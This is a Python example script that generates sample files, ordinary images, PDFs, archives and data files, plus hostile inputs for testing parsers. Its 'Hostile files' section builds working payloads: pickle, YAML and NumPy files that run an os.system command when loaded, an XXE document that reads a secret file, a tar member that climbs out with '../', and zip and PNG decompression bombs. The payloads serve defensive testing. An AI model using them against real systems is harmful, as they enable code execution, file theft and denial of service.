"""The files the demonstration reads, honest and hostile, made by the real libraries.

    python examples/inputs.py FOLDER        leaves the honest ones, and a broken one, in FOLDER

Nothing here reads a file. The hostile ones are told what to aim at: a command to run, a secret to read.
"""

import datetime
import decimal
import io
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import lxml.etree
import lxml.html.builder as html
import numpy
import PIL.Image
import pypdf
import yaml
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

MEMBERS = {"notes/read me.txt": b"a stranger sent this\n" * 40, "data/números.bin": bytes(range(256)) * 64}


# Honest files


def jpeg(path: Path) -> None:
    _picture().save(path, "JPEG", quality=90)


def png(path: Path) -> None:
    _picture().save(path, "PNG")


def webp(path: Path) -> None:
    _picture().save(path, "WEBP", lossless=True)


def _picture() -> PIL.Image.Image:
    across, down = PIL.Image.linear_gradient("L").rotate(90), PIL.Image.linear_gradient("L")
    return PIL.Image.merge("RGB", (across, down, PIL.Image.radial_gradient("L"))).resize((320, 200))


def pdf(path: Path) -> None:
    """Three pages, each with a line of text in one of the fonts that every reader has."""
    document = pypdf.PdfWriter()
    document.add_metadata({"/Title": "Три страницы"})
    font = DictionaryObject({NameObject(k): NameObject(v) for k, v in _HELVETICA.items()})
    for number in ("one", "two", "three"):
        page = document.add_blank_page(width=595, height=842)
        page[NameObject("/Resources")] = DictionaryObject(
            {NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})}
        )
        text = DecodedStreamObject()
        text.set_data(f"BT /F1 24 Tf 72 760 Td (This is page {number}.) Tj ET".encode())
        page[NameObject("/Contents")] = document._add_object(text.flate_encode())
    document.write(path)


_HELVETICA = {
    "/Type": "/Font",
    "/Subtype": "/Type1",
    "/BaseFont": "/Helvetica",
    "/Encoding": "/WinAnsiEncoding",
}


def html_page(path: Path) -> None:
    page = html.HTML(
        html.HEAD(html.META(charset="utf-8"), html.TITLE("A page")),
        html.BODY(
            html.H1("Grüße"),
            html.P("See ", html.A("the manual", href="https://example.org/manual"), " or ask."),
            html.UL(*[html.LI(f"item {n}") for n in range(20)]),
        ),
    )
    path.write_bytes(lxml.etree.tostring(page, method="html", encoding="utf-8"))


def xml(path: Path) -> None:
    root = lxml.etree.Element("orders", day="2024-02-29")
    for number in range(1, 6):
        order = lxml.etree.SubElement(root, "order", id=str(number))
        lxml.etree.SubElement(order, "item").text = f"кофе {number}"
    # An old encoding, so that more than UTF-8 is put to the test.
    lxml.etree.ElementTree(root).write(path, encoding="koi8-r", xml_declaration=True)


def yaml_file(path: Path) -> None:
    settings = {
        "name": "a service",
        "since": datetime.date(2020, 2, 29),
        "weights": [0.5, 0.25, -1e300],
        "hosts": [{"name": f"host{n}", "up": n % 2 == 0} for n in range(4)],
        "raw": b"\x00\xff",
    }
    path.write_text(yaml.safe_dump(settings))


def zip_file(path: Path) -> None:
    packings = [zipfile.ZIP_DEFLATED, zipfile.ZIP_LZMA]
    with zipfile.ZipFile(path, "w") as archive:
        for (name, data), packing in zip(MEMBERS.items(), packings, strict=True):
            archive.writestr(name, data, packing)


def tar(path: Path) -> None:
    _tar(path, "w")


def tar_gz(path: Path) -> None:
    _tar(path, "w:gz")


def _tar(path: Path, mode: str, members: dict[str, bytes] = MEMBERS) -> None:
    with tarfile.open(path, mode) as archive:
        for name, data in members.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))


def pickle_file(path: Path) -> None:
    order = {
        "at": datetime.datetime(2024, 2, 29, 12, 30, tzinfo=datetime.UTC),
        "price": decimal.Decimal("19.99"),
        "tags": {"a", "b"},
        "place": (52.5, 13.4),
    }
    path.write_bytes(pickle.dumps(order))


def npy(path: Path) -> None:
    numpy.save(path, numpy.linspace(0, 1, 64 * 48).reshape(64, 48))


# Hostile files


def pickle_that_runs(path: Path, command: str) -> None:
    path.write_bytes(pickle.dumps(Command(command)))


class Command:
    """Pickles to "call os.system with this", which whoever unpickles it then does."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (self.command,)


def yaml_that_runs(path: Path, command: str) -> None:
    path.write_text(f"!!python/object/apply:os.system [{command!r}]\n")


def npy_that_runs(path: Path, command: str) -> None:
    """An array of objects is a pickle inside."""
    with path.open("wb") as file:
        numpy.save(file, numpy.array([Command(command)], dtype=object), allow_pickle=True)


def xml_that_reads(path: Path, secret: Path) -> None:
    path.write_text(f'<!DOCTYPE a [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>\n<a>&leak;</a>\n')


def tar_that_climbs(path: Path, beside: Path) -> None:
    """A member whose name leads out of the folder it is unpacked to, to a file beside that folder."""
    _tar(path, "w", {"welcome.txt": b"hello", f"../{beside.name}": b"run me"})


def zip_bomb(path: Path) -> None:
    """Two megabytes that unpack to half a gigabyte."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("zeros", "w") as member:
            for _ in range(512):
                member.write(bytes(1 << 20))


def png_bomb(path: Path) -> None:
    """Half a megabyte that decodes to 900 megapixels. Pillow would need as much memory to write it: so, by hand."""
    side = 30_000
    line = b"\x00" + bytes(side // 8)
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"IDAT", zlib.compress(line * side, 1)), (b"IEND", b"")]
    with path.open("wb") as file:
        file.write(b"\x89PNG\r\n\x1a\n")
        for name, data in chunks:
            file.write(struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data)))


def text_that_stalls(path: Path) -> None:
    """A line on which a careless regular expression takes 2 ** 64 steps."""
    path.write_text("a" * 64 + "!")


def truncated_png(path: Path) -> None:
    """Not hostile, only broken: the first half of a picture."""
    png(path)
    os.truncate(path, path.stat().st_size // 2)


HONEST = {
    "photo.jpg": jpeg,
    "drawing.png": png,
    "sticker.webp": webp,
    "report.pdf": pdf,
    "page.html": html_page,
    "orders.xml": xml,
    "settings.yaml": yaml_file,
    "files.zip": zip_file,
    "files.tar": tar,
    "files.tar.gz": tar_gz,
    "order.pickle": pickle_file,
    "weights.npy": npy,
}


def main() -> None:
    folder = Path(sys.argv[1])
    folder.mkdir(exist_ok=True)
    for name, make in HONEST.items():
        make(folder / name)
    truncated_png(folder / "truncated.png")


if __name__ == "__main__":
    main()
